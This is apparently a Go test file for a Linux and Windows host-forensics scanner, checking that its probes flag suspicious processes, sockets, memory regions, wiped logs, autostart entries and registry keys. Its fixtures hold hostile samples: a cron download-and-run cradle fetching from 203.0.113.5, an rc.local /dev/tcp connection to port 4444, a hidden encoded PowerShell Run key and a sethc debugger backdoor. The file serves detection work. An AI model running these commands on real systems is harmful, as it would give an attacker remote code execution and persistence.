package probe

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tracesweep-io/tracesweep/internal/findings"
)

const tcpHeader = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"

// statLine renders a full /proc/<pid>/stat record.
func statLine(pid int, comm string, ppid, tty int) string {
	return fmt.Sprintf("%d (%s) S %d %d %d %d -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 1000 10000000 200 "+
		"18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0\n", pid, comm, ppid, pid, pid, tty)
}

func TestProcessProbe(t *testing.T) {
	h := newFakeHost(t)
	h.procFile("100/stat", statLine(100, "im plant", 1, 34816))
	h.procLink("100/exe", "/tmp/.x/implant (deleted)")
	h.procFile("100/cmdline", "bash\x00-i\x00")
	h.procFile("100/environ", "LD_PRELOAD=/tmp/libx.so\x00HOME=/root\x00")

	h.procFile("200/stat", statLine(200, "sshd", 1, 0))
	h.procLink("200/exe", "/usr/sbin/sshd")
	h.procFile("200/cmdline", "sshd: /usr/sbin/sshd -D\x00")

	h.procFile("2/stat", statLine(2, "kthreadd", 0, 0))

	preload := h.file("etc/ld.so.preload", "/tmp/libx.so\n", 0o644)

	out := Run(context.Background(), NewProcess(h.env()), 100)
	require.NoError(t, out.Err)
	got := byLocation(out.Observations)
	require.Len(t, got, 2)

	implant := got["/tmp/.x/implant"]
	assert.Equal(t, "process", implant.ArtifactType)
	assert.ElementsMatch(t, []string{
		"deleted_executable", "orphaned_process", "preload_injection", "suspicious_cmdline", "temp_executable_path",
	}, implant.Indicators)
	assert.Equal(t, "100", implant.Attributes["pid"])
	assert.Equal(t, "im plant", implant.Attributes["comm"])
	assert.Equal(t, "/tmp/libx.so", implant.Attributes["ld_preload"])

	require.Contains(t, got, preload)
	assert.Equal(t, []string{"preload_injection"}, got[preload].Indicators)
}

func TestProcessProbeReadsParenthesizedComm(t *testing.T) {
	h := newFakeHost(t)
	h.procFile("42/stat", statLine(42, "a) b", 7, 0))
	h.procLink("42/exe", "/var/tmp/a")

	out := Run(context.Background(), NewProcess(h.env()), 100)
	require.NoError(t, out.Err)
	require.Len(t, out.Observations, 1)
	assert.Equal(t, "a) b", out.Observations[0].Attributes["comm"])
	assert.Equal(t, "7", out.Observations[0].Attributes["ppid"])
	assert.Equal(t, []string{"temp_executable_path"}, out.Observations[0].Indicators)
}

func TestNetworkProbe(t *testing.T) {
	h := newFakeHost(t)
	h.procFile("net/tcp", tcpHeader+strings.Join([]string{
		"   0: 0100007F:7A69 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 12345 1 0000000000000000 100 0 0 10 0",
		"   1: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000   106        0 22222 1 0000000000000000 100 0 0 10 0",
		"   2: 0A00000A:D431 057100CB:115C 01 00000000:00000000 00:00000000 00000000  1000        0 33333 1 0000000000000000 20 4 30 10 -1",
		"   3: 00000000:9C40 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 44444 1 0000000000000000 100 0 0 10 0",
	}, "\n")+"\n")
	h.procFile("net/tcp6", tcpHeader+
		"   0: 00000000000000000000000001000000:7A69 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 55555 1 0000000000000000 100 0 0 10 0\n")

	out := Run(context.Background(), NewNetwork(h.env()), 100)
	require.NoError(t, out.Err)
	got := byLocation(out.Observations)
	require.Len(t, got, 4)

	loop := got["127.0.0.1:31337"]
	assert.Equal(t, "tcp_listener", loop.ArtifactType)
	assert.Equal(t, []string{"loopback_nonstandard", "suspicious_port"}, loop.Indicators)
	assert.Equal(t, "LISTEN", loop.Attributes["state"])
	assert.Equal(t, "12345", loop.Attributes["inode"])

	remote := got["203.0.113.5:4444"]
	assert.Equal(t, "tcp_connection", remote.ArtifactType)
	assert.Equal(t, []string{"external_established", "suspicious_port"}, remote.Indicators)
	assert.Equal(t, "10.0.0.10:54321", remote.Attributes["local"])

	assert.Equal(t, []string{"listening_high_port"}, got["0.0.0.0:40000"].Indicators)
	assert.Equal(t, []string{"loopback_nonstandard", "suspicious_port"}, got["[::1]:31337"].Indicators)
}

func TestNetworkProbeWithoutTables(t *testing.T) {
	h := newFakeHost(t)
	out := Run(context.Background(), NewNetwork(h.env()), 100)
	assert.Error(t, out.Err)
}

func TestNetworkProbeRejectsMalformedTable(t *testing.T) {
	h := newFakeHost(t)
	h.procFile("net/tcp", tcpHeader+"   0: malformed\n")

	out := Run(context.Background(), NewNetwork(h.env()), 100)
	assert.ErrorContains(t, out.Err, "failed to read tcp table")
	assert.Empty(t, out.Observations)
}

func TestMemoryProbe(t *testing.T) {
	h := newFakeHost(t)
	h.procFile("400/stat", statLine(400, "dbus-daemon", 1, 0))
	h.procLink("400/exe", "/usr/bin/dbus-daemon")
	h.procFile("400/maps", strings.Join([]string{
		"00400000-00452000 r-xp 00000000 08:02 173521 /usr/bin/dbus-daemon",
		"7f0000000000-7f0000021000 rwxp 00000000 00:00 0 ",
		"7f1000000000-7f1000001000 r-xp 00000000 00:05 1234 /memfd:payload (deleted)",
		"7ffd00000000-7ffd00021000 rw-p 00000000 00:00 0                          [stack]",
	}, "\n")+"\n")
	h.procLink("400/fd/3", "/memfd:payload (deleted)")

	h.procFile("401/stat", statLine(401, "cron", 1, 0))
	h.procLink("401/exe", "/usr/sbin/cron")
	h.procFile("401/maps", "00400000-00452000 r-xp 00000000 08:02 1 /usr/sbin/cron\n")

	elf := h.file("dev/shm/blob", "\x7fELF\x02\x01\x01", 0o600)
	sem := h.file("dev/shm/sem.lock", "x", 0o600)

	out := Run(context.Background(), NewMemory(h.env()), 100)
	require.NoError(t, out.Err)
	got := byLocation(out.Observations)
	require.Len(t, got, 3)

	payload := got["memfd:payload"]
	assert.Equal(t, []string{"anonymous_rwx", "executable_memfd", "memfd_descriptor"}, payload.Indicators)
	assert.Equal(t, "1", payload.Attributes["rwx_regions"])
	assert.Equal(t, "400", payload.Attributes["pid"])
	assert.Equal(t, "dbus-daemon", payload.Attributes["comm"])

	assert.Equal(t, []string{"shm_executable", "shm_object"}, got[elf].Indicators)
	assert.Equal(t, []string{"shm_object"}, got[sem].Indicators)
}

func TestDeletionProbe(t *testing.T) {
	h := newFakeHost(t)
	now := time.Now()

	truncated := h.file("var/log/auth.log", "", 0o640)
	remnant := h.file("var/log/auth.log.1", strings.Repeat("x", 100), 0o640)
	require.NoError(t, os.Chtimes(remnant, now.Add(-48*time.Hour), now.Add(-48*time.Hour)))

	h.file("var/log/syslog", "", 0o640)
	fresh := h.file("var/log/syslog.1", "rotated just now", 0o640)
	require.NoError(t, os.Chtimes(fresh, now.Add(-10*time.Minute), now.Add(-10*time.Minute)))

	emptied := h.file("root/.bash_history", "", 0o600)
	h.file("home/bob/.bash_history", "ls\n", 0o600)
	linked := filepath.Join(h.root, "home/alice/.bash_history")
	require.NoError(t, os.MkdirAll(filepath.Dir(linked), 0o755))
	require.NoError(t, os.Symlink("/dev/null", linked))

	h.procLink("500/fd/4", "/var/tmp/dropper (deleted)")
	h.procLink("500/fd/5", "/usr/lib/x86_64-linux-gnu/libc.so.6 (deleted)")
	h.procLink("501/fd/1", "/var/tmp/dropper (deleted)")
	h.procLink("501/fd/2", "socket:[1234]")

	out := Run(context.Background(), NewDeletion(h.env()), 100)
	require.NoError(t, out.Err)
	got := byLocation(out.Observations)
	require.Len(t, got, 4)

	log := got[truncated]
	assert.Equal(t, []string{"rotated_remnant", "truncated_log"}, log.Indicators)
	assert.Equal(t, "100", log.Attributes["prior_size"])
	assert.Equal(t, remnant, log.Attributes["remnant"])

	assert.Equal(t, []string{"history_cleared"}, got[emptied].Indicators)
	assert.Equal(t, []string{"history_cleared"}, got[linked].Indicators)
	assert.Nil(t, got[linked].FileSize)

	dropper := got["/var/tmp/dropper"]
	assert.Equal(t, []string{"deleted_open_file"}, dropper.Indicators)
	assert.Equal(t, "500", dropper.Attributes["pid"])
}

func TestPersistenceProbe(t *testing.T) {
	h := newFakeHost(t)
	cron := h.file("etc/cron.d/updater", "# refresh\n*/5 * * * * root curl -fsSL http://203.0.113.5/x | sh\n", 0o644)
	h.file("etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", 0o644)
	unit := h.file("etc/systemd/system/agent.service", "[Unit]\nDescription=agent\n[Service]\nExecStart=/tmp/.x/agent\n", 0o644)
	rc := h.file("etc/rc.local", "#!/bin/sh\nbash -c 'exec 5<>/dev/tcp/203.0.113.5/4444'\nexit 0\n", 0o755)

	p := NewPersistence(h.env())
	assert.Equal(t, findings.LayerRegistry, p.Layer())

	out := Run(context.Background(), p, 100)
	require.NoError(t, out.Err)
	got := byLocation(out.Observations)
	require.Len(t, got, 3)

	assert.Equal(t, []string{"autostart_download_cradle"}, got[cron+":2"].Indicators)
	assert.Equal(t, "autostart_cron", got[cron+":2"].ArtifactType)
	assert.Equal(t, []string{"autostart_temp_path"}, got[unit+":4"].Indicators)
	assert.Equal(t, []string{"autostart_download_cradle"}, got[rc+":2"].Indicators)
}

func TestRegistryClassification(t *testing.T) {
	h := newFakeHost(t)
	r := NewRegistry(h.env())
	r.read = func(context.Context) ([]registryValue, error) {
		return []registryValue{
			{Key: `HKCU\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, Name: "updater", Data: `C:\Users\bob\AppData\Local\Temp\upd.exe`, Class: "run"},
			{Key: `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, Name: "helper", Data: `powershell -w hidden -enc SQBFAFgA`, Class: "run"},
			{Key: `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, Name: "SecurityHealth", Data: `C:\Windows\system32\SecurityHealthSystray.exe`, Class: "run"},
			{Key: `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`, Name: "Debugger", Data: `C:\Windows\System32\cmd.exe`, Class: "ifeo"},
			{Key: `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows`, Name: "AppInit_DLLs", Data: " ", Class: "appinit"},
		}, nil
	}

	out := Run(context.Background(), r, 100)
	require.NoError(t, out.Err)
	got := byLocation(out.Observations)
	require.Len(t, got, 3)

	assert.Equal(t, []string{"run_key_temp_path"}, got[`HKCU\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\updater`].Indicators)
	assert.Equal(t, []string{"run_key_script_host"}, got[`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\helper`].Indicators)
	assert.Equal(t, "registry_ifeo", got[`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger`].ArtifactType)
}

func TestDigester(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "hello")
	require.NoError(t, os.WriteFile(path, []byte("hello"), 0o644))
	info, err := os.Stat(path)
	require.NoError(t, err)

	d, err := NewDigester("sha256", 1024, 8)
	require.NoError(t, err)
	sum, err := d.File(path, "", info)
	require.NoError(t, err)
	assert.Equal(t, "sha256:2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824", sum)

	again, err := d.File(path, "", info)
	require.NoError(t, err)
	assert.Equal(t, sum, again)
	assert.Equal(t, 1, d.Cached())

	small, err := NewDigester("md5", 3, 8)
	require.NoError(t, err)
	skipped, err := small.File(path, "", info)
	require.NoError(t, err)
	assert.Empty(t, skipped)

	b2, err := NewDigester("blake2b", 0, 8)
	require.NoError(t, err)
	sum, err = b2.File(path, "", info)
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(sum, "blake2b:"))
	assert.Len(t, sum, len("blake2b:")+64)

	_, err = NewDigester("crc32", 0, 8)
	assert.Error(t, err)
}
